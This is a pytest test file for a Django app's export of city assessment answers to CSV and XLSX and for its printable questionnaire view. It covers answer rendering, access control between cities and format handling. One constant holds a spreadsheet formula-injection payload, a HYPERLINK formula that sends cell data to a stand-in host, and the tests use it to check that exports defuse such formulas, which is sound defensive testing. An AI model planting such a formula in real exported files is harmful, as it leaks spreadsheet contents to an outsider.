"""A city downloads its own answers for sign-off; anyone prints the blank questionnaire."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils.html import escape

from assessments import selectors
from assessments.scoring import AnswerValue
from assessments.services.assessments import answers_save

from .factories import MembershipFactory
from .wizard_helpers import fill_in, started

pytestmark = pytest.mark.django_db

FORMULA_NOTE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _first(structure, kind, **attributes):
    return next(
        question
        for dimension in structure.dimensions
        for question in structure.questions_by_dimension[dimension.pk]
        if question.kind == kind and all(getattr(question, name) == value for name, value in attributes.items())
    )


@pytest.fixture
def answered(city, lead):
    """Every question answered, then a few answers changed to each way of answering."""
    assessment = fill_in(started(city, lead, year=2025), lead)
    structure = selectors.questionnaire_structure(assessment.questionnaire)
    choice = _first(structure, "choice")
    multi = _first(structure, "multi")
    number = _first(structure, "number")
    yesno = _first(structure, "yesno")
    not_applicable = _first(structure, "choice", allows_not_applicable=True)
    current = selectors.answers_by_question(assessment)
    values = {
        choice.pk: AnswerValue(option_keys=(choice.options.all()[1].key,), evidence_note=FORMULA_NOTE),
        multi.pk: AnswerValue(option_keys=(selectors.NONE_OF_THESE,)),
        number.pk: AnswerValue(number=Decimal("12.5")),
        yesno.pk: AnswerValue(dont_know=True),
        not_applicable.pk: AnswerValue(not_applicable=True),
    }
    outcome = answers_save(
        assessment=assessment,
        user=lead,
        submitted={pk: (value, current[pk].revision) for pk, value in values.items()},
    )
    assert outcome.saved == len(values) and not outcome.conflicts
    return {
        "assessment": assessment,
        "structure": structure,
        "choice": choice,
        "multi": multi,
        "number": number,
        "yesno": yesno,
        "not_applicable": not_applicable,
    }


def _url(assessment, fmt, slug=None):
    return reverse("assessment_export", kwargs={"slug": slug or assessment.city.slug, "pk": assessment.pk, "fmt": fmt})


def _csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_lists_each_question_once_with_the_answer_in_words(client, viewer, answered):
    client.force_login(viewer)  # any member may download, for sign-off
    response = client.get(_url(answered["assessment"], "csv"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="zurich-2025-answers.csv"' in response["Content-Disposition"]
    rows = _csv_rows(response)
    structure = answered["structure"]
    question_keys = [q.key for d in structure.dimensions for q in structure.questions_by_dimension[d.pk]]
    assert len(question_keys) == 54
    assert [row["Question key"] for row in rows[:54]] == question_keys  # questionnaire order, each once
    by_key = {row["Question key"]: row for row in rows}
    choice, number = answered["choice"], answered["number"]
    assert by_key[choice.key]["Answer"] == choice.options.all()[1].label
    assert by_key[choice.key]["Points"] == f"{choice.options.all()[1].points.normalize():f}"
    assert by_key[answered["multi"].key]["Answer"] == "None of these"
    assert by_key[number.key]["Answer"] == f"12.5 {number.unit}".strip()
    assert by_key[answered["yesno"].key]["Answer"] == "Don't know"
    assert by_key[answered["yesno"].key]["Points"] == "0"
    assert by_key[answered["not_applicable"].key]["Answer"] == "Not applicable"
    assert by_key[answered["not_applicable"].key]["Points"] == ""
    assert by_key[choice.key]["Step"] == choice.dimension.name
    assert by_key[choice.key]["Changed by"]  # the lead's name


def test_csv_ends_with_the_city_profile_and_the_twelve_framework_elements(client, lead, answered):
    client.force_login(lead)
    rows = _csv_rows(client.get(_url(answered["assessment"], "csv")))

    profile = [row for row in rows if row["Step"] == "City profile"]
    framework = [row for row in rows if row["Step"] == "Strategic framework"]
    assert len(rows) == 54 + len(profile) + 12
    assert {row["Question key"]: row["Answer"] for row in profile}["metro_population"] == "1400000"
    assert {row["Question key"]: row["Answer"] for row in profile}["niche"] == "Finance"
    assert {row["Answer"] for row in framework} == {"Partial"}
    assert {row["Points"] for row in framework} == {"50"}


def test_a_formula_in_an_evidence_note_is_defused(client, lead, answered):
    client.force_login(lead)
    rows = _csv_rows(client.get(_url(answered["assessment"], "csv")))

    note = {row["Question key"]: row["Evidence note"] for row in rows}[answered["choice"].key]
    assert note == "'" + FORMULA_NOTE


def test_xlsx_opens_as_a_workbook_with_the_formula_defused(client, contributor, answered):
    client.force_login(contributor)
    response = client.get(_url(answered["assessment"], "xlsx"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    openpyxl = pytest.importorskip("openpyxl")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    headers = rows[0]
    assert headers[:5] == ("Step", "Question key", "Question", "Kind", "Answer")
    by_key = {row[1]: dict(zip(headers, row, strict=True)) for row in rows[1:]}
    assert by_key[answered["choice"].key]["Evidence note"] == "'" + FORMULA_NOTE
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert by_key[answered["multi"].key]["Answer"] == "None of these"


def test_the_download_reads_a_fixed_number_of_queries(client, lead, answered, django_assert_max_num_queries):
    client.force_login(lead)
    with django_assert_max_num_queries(15):
        assert client.get(_url(answered["assessment"], "csv")).status_code == 200


@pytest.mark.parametrize("fmt", ["pdf", "json", "CSV", "xls"])
def test_an_unknown_format_is_not_found(client, lead, answered, fmt):
    client.force_login(lead)
    assert client.get(_url(answered["assessment"], fmt)).status_code == 404


def test_another_citys_assessment_is_not_found(client, lead, outsider, answered):
    other_city = outsider.memberships.get().city
    other = started(other_city, outsider, year=2025)
    client.force_login(lead)
    # Through our own city's address, and through theirs.
    assert client.get(_url(other, "csv", slug=answered["assessment"].city.slug)).status_code == 404
    assert client.get(_url(other, "csv")).status_code == 404


def test_a_member_of_another_city_cannot_download_ours(client, outsider, answered):
    client.force_login(outsider)
    assert client.get(_url(answered["assessment"], "csv")).status_code == 404


def questions_of_last(structure):
    return structure.questions_by_dimension[structure.dimensions[-1].pk]


def test_the_print_view_lists_every_question_and_framework_element(client, answered):
    structure = answered["structure"]
    version = answered["assessment"].questionnaire
    response = client.get(reverse("questionnaire_print", kwargs={"version": version.version}))

    assert response.status_code == 200
    page = response.content.decode()
    questions = [q for d in structure.dimensions for q in structure.questions_by_dimension[d.pk]]
    assert len(questions) == 54
    for question in questions:
        assert escape(question.text) in page, question.key
    assert f">{len(structure.dimensions)}.{len(questions_of_last(structure))}<" in page  # numbered 1.1 … 9.n
    for element in version.framework:
        assert element["name"] in page
    assert len(version.framework) == 12
    number = answered["number"]
    assert f"{number.unit}" in page
    assert "Not applicable (a national power)" in page
    assert page.count("☐ Don't know") == 54 + 1  # every question, and the GaWC tier
    assert 'href="/static/css/print.css" media="print"' in page


def test_the_print_view_of_an_unknown_version_is_not_found(client, db):
    assert client.get(reverse("questionnaire_print", kwargs={"version": "9.9"})).status_code == 404


def test_a_member_sees_the_export_on_any_role(client, city, answered):
    member = MembershipFactory(city=city, role="viewer").user
    client.force_login(member)
    assert client.get(_url(answered["assessment"], "xlsx")).status_code == 200
